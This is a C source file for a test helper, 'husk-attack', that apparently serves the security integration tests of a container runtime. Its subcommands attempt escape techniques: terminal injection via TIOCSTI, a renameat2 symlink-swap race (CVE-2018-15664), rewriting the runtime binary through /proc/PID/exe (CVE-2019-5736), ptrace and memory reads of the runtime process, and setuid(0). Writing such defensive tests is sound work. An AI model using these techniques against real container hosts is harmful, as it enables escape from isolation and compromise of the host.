/* husk-attack: what a hostile process inside a container tries, for the
 * integration tests that attack husk (tests/security/). It is
 * linked statically and copied into a test image, so it needs nothing from
 * the container. Every subcommand prints one line per attempt,
 * "ATTEMPT: ok" or "ATTEMPT: <error>", and exits 0; the tests judge.
 *
 *   tiocsti TEXT          push TEXT into every terminal in reach: fds 0-2
 *                         and /dev/tty (the controlling terminal)
 *   tiocsti-later SECS TEXT   the same from a background process after SECS
 *   refused-syscalls      io_uring_setup and socket(AF_VSOCK)
 *   probe PID MARKER      everything container root might do to a process
 *                         that is still husk: stop it, read its environ and
 *                         cmdline (MARKER found?), open its mem, ptrace it,
 *                         reopen its fds and its exe for writing
 *   swap-loop DIR TARGET SECS   for SECS seconds, swap directory DIR with a
 *                         symlink to TARGET as fast as renameat2
 *                         RENAME_EXCHANGE can (CVE-2018-15664's race
 *                         against `cp` into or out of the container)
 *   kernel                every syscall that acts on the host or undoes
 *                         isolation, each really attempted (kernel.c)
 *   exe-scan DEV INO      every /proc/PID/exe in reach that is the file
 *                         DEV:INO (husk's binary), reopened for writing
 *   fds [PID]             the open fds of this process (or PID), and what
 *                         each is
 *   write PATH TEXT       write TEXT into PATH
 *   read PATH             how many bytes PATH gives
 *   ids                   real/effective/saved uid and CapEff (run setuid) */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* Also kept in the container's /tmp/attack.log: a background attacker's
 * stdout may be gone by the time it acts. */
void report(const char *attempt, int ok, int error)
{
    printf("%s: %s\n", attempt, ok ? "ok" : strerror(error));
    fflush(stdout);
    FILE *log = fopen("/tmp/attack.log", "a");
    if (log != NULL) {
        fprintf(log, "%s: %s\n", attempt, ok ? "ok" : strerror(error));
        fclose(log);
    }
}

static void push_text(int fd, const char *name, const char *text)
{
    char attempt[64];
    snprintf(attempt, sizeof(attempt), "tiocsti %s", name);
    int ok = 1, error = 0;
    for (const char *c = text; *c && ok; c++)
        if (ioctl(fd, TIOCSTI, c) < 0) {
            ok = 0;
            error = errno;
        }
    report(attempt, ok, error);
}

static int tiocsti(const char *text)
{
    static const char *const names[] = {"fd0", "fd1", "fd2"};
    for (int fd = 0; fd < 3; fd++)
        push_text(fd, names[fd], text);
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty < 0) {
        report("open /dev/tty", 0, errno);
        return 0;
    }
    report("open /dev/tty", 1, 0);
    push_text(tty, "/dev/tty", text);
    close(tty);
    return 0;
}

static int tiocsti_later(int seconds, const char *text)
{
    if (fork() != 0)
        return 0;
    signal(SIGPIPE, SIG_IGN);
    setpgid(0, 0); /* survives the caller's job control, as a real attacker would */
    sleep((unsigned)seconds);
    return tiocsti(text);
}

static int contains_marker(const char *path, const char *marker, int *error)
{
    char buffer[65536];
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        *error = errno;
        return -1;
    }
    ssize_t n = read(fd, buffer, sizeof(buffer) - 1);
    *error = errno;
    close(fd);
    if (n < 0)
        return -1;
    for (ssize_t i = 0; i < n; i++)
        if (buffer[i] == '\0')
            buffer[i] = '\n';
    buffer[n] = '\0';
    return strstr(buffer, marker) != NULL;
}

static void probe_file(int pid, const char *file, const char *marker)
{
    char path[64], attempt[64];
    snprintf(path, sizeof(path), "/proc/%d/%s", pid, file);
    int error = 0, found = contains_marker(path, marker, &error);
    snprintf(attempt, sizeof(attempt), "read %s", file);
    report(attempt, found >= 0, error);
    snprintf(attempt, sizeof(attempt), "marker in %s", file);
    report(attempt, found > 0, ENOENT);
}

/* CVE-2019-5736: an O_PATH handle on the exe, reopened for writing. */
static void probe_exe(int pid)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    int handle = open(path, O_PATH);
    report("open exe", handle >= 0, errno);
    if (handle < 0)
        return;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
    int writable = open(path, O_WRONLY);
    /* ETXTBSY while it runs is no protection: it is retried after exit. */
    report("reopen exe for writing", writable >= 0 || errno == ETXTBSY, errno);
    if (writable >= 0)
        close(writable);
    close(handle);
}

static void probe_fds(int pid)
{
    char path[64];
    int opened = 0, error = ENOENT;
    for (int fd = 0; fd < 64; fd++) {
        snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
        int reopened = open(path, O_RDONLY | O_NONBLOCK);
        if (reopened >= 0) {
            opened++;
            close(reopened);
        } else if (errno != ENOENT) {
            error = errno;
        }
    }
    report("reopen fds", opened > 0, error);
}

static void probe_vm_readv(int pid)
{
    char local[16], remote_byte = 0;
    struct iovec mine = {local, sizeof(local)};
    /* Any address: the permission check comes before the copy. */
    struct iovec theirs = {&remote_byte, sizeof(local)};
    ssize_t n = process_vm_readv(pid, &mine, 1, &theirs, 1, 0);
    report("process_vm_readv", n >= 0 || errno == EFAULT, errno);
}

static int probe(int pid, const char *marker)
{
    int stopped = kill(pid, SIGSTOP); /* before errno is read: argument order */
    report("stop", stopped == 0, errno);
    kill(pid, SIGCONT);
    probe_file(pid, "environ", marker);
    probe_file(pid, "cmdline", marker);
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
    int mem = open(path, O_RDONLY);
    report("open mem", mem >= 0, errno);
    if (mem >= 0)
        close(mem);
    long traced = ptrace(PTRACE_SEIZE, pid, NULL, NULL);
    report("ptrace", traced == 0, errno);
    if (traced == 0)
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    probe_vm_readv(pid);
    probe_fds(pid);
    probe_exe(pid);
    return 0;
}

static int refused_syscalls(void)
{
    char params[120] = {0}; /* struct io_uring_params */
    long ring = syscall(SYS_io_uring_setup, 1, params);
    report("io_uring_setup", ring >= 0, errno);
    int vsock = socket(AF_VSOCK, SOCK_STREAM, 0);
    report("socket AF_VSOCK", vsock >= 0, errno);
    return 0;
}

static int swap_loop(const char *directory, const char *target, int seconds)
{
    char link[4096];
    snprintf(link, sizeof(link), "%s.swap", directory);
    unlink(link);
    if (symlink(target, link) < 0) {
        report("swap-loop symlink", 0, errno);
        return 0;
    }
    time_t end = time(NULL) + seconds;
    unsigned long swaps = 0;
    int error = 0;
    while (time(NULL) < end)
        for (int i = 0; i < 1000; i++) {
            if (syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link, 2 /* EXCHANGE */) == 0)
                swaps++;
            else
                error = errno;
        }
    /* Left as it was found: the directory under its name. */
    if (swaps % 2 == 1)
        syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link, 2);
    report("swap-loop", swaps > 0, error);
    return 0;
}

/* Husk's binary is DEV:INO; any process whose exe the container may open
 * and that is that file is a way to rewrite it (CVE-2019-5736). */
static int exe_scan(unsigned long dev, unsigned long ino)
{
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    int seen = 0, reached = 0, writable = 0, error = ENOENT, write_error = ENOENT;
    while (proc != NULL && (entry = readdir(proc)) != NULL) {
        char path[300];
        if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
            continue;
        seen++;
        snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
        int handle = open(path, O_PATH);
        struct stat st;
        if (handle < 0 || fstat(handle, &st) < 0 || st.st_dev != dev || st.st_ino != ino) {
            if (handle >= 0)
                close(handle);
            continue;
        }
        reached++;
        printf("husk's binary is the exe of %s\n", entry->d_name);
        snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
        int fd = open(path, O_WRONLY);
        if (fd >= 0 || errno == ETXTBSY)
            writable++;
        else
            write_error = errno;
        if (fd >= 0)
            close(fd);
        close(handle);
    }
    if (proc != NULL)
        closedir(proc);
    printf("processes seen: %d\n", seen);
    report("reach husk's exe", reached > 0, error);
    report("open husk's exe for writing", writable > 0, write_error);
    return 0;
}

/* The open fds of process PID ("self": this one, without the fd of the
 * listing itself) and what each is. */
static int list_fds(const char *pid)
{
    char path[300], target[4096];
    snprintf(path, sizeof(path), "/proc/%s/fd", pid);
    DIR *dir = opendir(path);
    if (dir == NULL) {
        report("list fds", 0, errno);
        return 0;
    }
    struct dirent *entry;
    while ((entry = readdir(dir)) != NULL) {
        if (entry->d_name[0] == '.' ||
            (strcmp(pid, "self") == 0 && atoi(entry->d_name) == dirfd(dir)))
            continue;
        snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, entry->d_name);
        ssize_t n = readlink(path, target, sizeof(target) - 1);
        target[n < 0 ? 0 : n] = '\0';
        printf("fd %s: %s\n", entry->d_name, target);
    }
    closedir(dir);
    return 0;
}

static int write_file(const char *path, const char *text)
{
    char attempt[300];
    snprintf(attempt, sizeof(attempt), "write %s", path);
    int fd = open(path, O_WRONLY);
    if (fd < 0) {
        report(attempt, 0, errno);
        return 0;
    }
    ssize_t n = write(fd, text, strlen(text));
    report(attempt, n >= 0, errno);
    close(fd);
    return 0;
}

static int read_file(const char *path)
{
    char buffer[65536];
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        printf("read %s: %s\n", path, strerror(errno));
        return 0;
    }
    ssize_t n = read(fd, buffer, sizeof(buffer));
    if (n < 0)
        printf("read %s: %s\n", path, strerror(errno));
    else
        printf("read %s: %zd bytes\n", path, n);
    close(fd);
    return 0;
}

static int ids(void)
{
    uid_t r, e, s;
    getresuid(&r, &e, &s);
    printf("uids %u %u %u\n", r, e, s);
    FILE *status = fopen("/proc/self/status", "r");
    char line[256];
    while (status != NULL && fgets(line, sizeof(line), status) != NULL)
        if (strncmp(line, "CapEff:", 7) == 0 || strncmp(line, "CapPrm:", 7) == 0)
            fputs(line, stdout);
    if (status != NULL)
        fclose(status);
    int changed = setuid(0);
    report("setuid(0)", changed == 0, errno);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 2 && strcmp(argv[1], "kernel") == 0)
        return attack_kernel();
    if (argc == 4 && strcmp(argv[1], "exe-scan") == 0)
        return exe_scan(strtoul(argv[2], NULL, 0), strtoul(argv[3], NULL, 0));
    if ((argc == 2 || argc == 3) && strcmp(argv[1], "fds") == 0)
        return list_fds(argc == 3 ? argv[2] : "self");
    if (argc == 4 && strcmp(argv[1], "write") == 0)
        return write_file(argv[2], argv[3]);
    if (argc == 3 && strcmp(argv[1], "read") == 0)
        return read_file(argv[2]);
    if (argc == 2 && strcmp(argv[1], "ids") == 0)
        return ids();
    if (argc == 5 && strcmp(argv[1], "swap-loop") == 0)
        return swap_loop(argv[2], argv[3], atoi(argv[4]));
    if (argc == 2 && strcmp(argv[1], "refused-syscalls") == 0)
        return refused_syscalls();
    if (argc == 3 && strcmp(argv[1], "tiocsti") == 0)
        return tiocsti(argv[2]);
    if (argc == 4 && strcmp(argv[1], "tiocsti-later") == 0)
        return tiocsti_later(atoi(argv[2]), argv[3]);
    if (argc == 4 && strcmp(argv[1], "probe") == 0)
        return probe(atoi(argv[2]), argv[3]);
    fprintf(stderr, "usage: husk-attack tiocsti TEXT | tiocsti-later SECS TEXT | "
                    "refused-syscalls | probe PID MARKER | swap-loop DIR TARGET SECS | kernel | "
                    "exe-scan DEV INO | fds [PID] | write PATH TEXT | read PATH | ids\n");
    return 2;
}
